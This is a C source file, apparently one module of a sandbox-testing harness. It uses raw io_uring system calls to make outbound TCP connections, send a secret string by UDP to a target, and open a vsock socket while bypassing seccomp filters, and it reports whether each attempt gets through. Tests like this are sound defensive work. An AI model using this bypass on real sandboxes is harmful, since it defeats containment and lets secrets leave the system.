/* SPDX-License-Identifier: Apache-2.0 */
/* io_uring makes calls that no seccomp filter sees. Raw calls, no library. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <linux/io_uring.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
	int fd;
	struct io_uring_params params;
	uint8_t *sq, *cq;
	struct io_uring_sqe *sqes;
};

static uint32_t *at(uint8_t *ring, uint32_t offset)
{
	return (uint32_t *)(void *)(ring + offset);
}

static bool ring_init(struct ring *r)
{
	struct io_uring_params *p = &r->params;

	memset(r, 0, sizeof(*r));
	r->fd = (int)syscall(SYS_io_uring_setup, 4, p);
	if (r->fd < 0)
		return false;
	r->sq = mmap(NULL, p->sq_off.array + p->sq_entries * 4,
		     PROT_READ | PROT_WRITE, MAP_SHARED, r->fd,
		     IORING_OFF_SQ_RING);
	r->cq = mmap(
		NULL,
		p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe),
		PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, p->sq_entries * sizeof(*r->sqes),
		       PROT_READ | PROT_WRITE, MAP_SHARED, r->fd,
		       IORING_OFF_SQES);
	return r->sq != MAP_FAILED && r->cq != MAP_FAILED &&
	       (void *)r->sqes != MAP_FAILED;
}

/* One operation to its end: its result, or a negative errno. */
static int ring_do(struct ring *r, const struct io_uring_sqe *sqe)
{
	uint32_t tail = *at(r->sq, r->params.sq_off.tail);
	uint32_t mask = *at(r->sq, r->params.sq_off.ring_mask);
	uint32_t head = *at(r->cq, r->params.cq_off.head);
	struct io_uring_cqe *cqes = (void *)(r->cq + r->params.cq_off.cqes);
	int result;

	r->sqes[tail & mask] = *sqe;
	at(r->sq, r->params.sq_off.array)[tail & mask] = tail & mask;
	atomic_thread_fence(memory_order_release);
	*at(r->sq, r->params.sq_off.tail) = tail + 1;
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS,
		    NULL, 0) < 0)
		return -errno;
	atomic_thread_fence(memory_order_acquire);
	result = cqes[head & *at(r->cq, r->params.cq_off.ring_mask)].res;
	*at(r->cq, r->params.cq_off.head) = head + 1;
	return result;
}

static enum verdict outcome(int result, const char *what)
{
	errno = -result;
	return failed(what);
}

static enum verdict by_connect(const struct scene *s)
{
	struct ring ring;
	int fd = new_socket(AF_INET, SOCK_STREAM, 0);
	struct io_uring_sqe sqe = {
		.opcode = IORING_OP_CONNECT,
		.fd = fd,
		.addr = (uintptr_t)&s->target4,
		.off = sizeof(s->target4),
	};
	int result;

	if (!ring_init(&ring))
		return failed("io_uring_setup");
	result = ring_do(&ring, &sqe);
	if (result < 0)
		return outcome(result, "connect");
	return stream_reaches(fd, "evil here") ? say(THROUGH, "answered")
					       : say(REFUSED, "not answered");
}

static enum verdict by_send(const struct scene *s)
{
	struct ring ring;
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);
	struct iovec iov = {(char *)(uintptr_t)s->secret, strlen(s->secret)};
	struct msghdr msg = {.msg_name = (char *)(uintptr_t)&s->target4,
			     .msg_namelen = sizeof(s->target4),
			     .msg_iov = &iov,
			     .msg_iovlen = 1};
	struct io_uring_sqe sqe = {
		.opcode = IORING_OP_SENDMSG,
		.fd = fd,
		.addr = (uintptr_t)&msg,
		.len = 1,
	};
	int result;

	if (!ring_init(&ring))
		return failed("io_uring_setup");
	result = ring_do(&ring, &sqe);
	if (result < 0)
		return outcome(result, "sendmsg");
	return datagram_echoes(s, fd) ? say(THROUGH, "echoed")
				      : say(REFUSED, "not echoed");
}

/* A socket of a refused kind, made where seccomp does not look. */
static enum verdict by_socket(const struct scene *s)
{
	struct ring ring;
	struct io_uring_sqe sqe = {
		.opcode = 45, /* IORING_OP_SOCKET, Linux 5.19 */
		.fd = AF_VSOCK,
		.off = SOCK_STREAM,
	};
	int result;

	(void)s;
	if (!ring_init(&ring))
		return failed("io_uring_setup");
	result = ring_do(&ring, &sqe);
	if (result < 0)
		return outcome(result, "socket");
	return say(THROUGH, "the socket is open");
}

const struct attack attack_uring = {
	"uring",
	(const struct mode[]){{"connect", by_connect},
			      {"send", by_send},
			      {"socket", by_socket},
			      {0}},
};
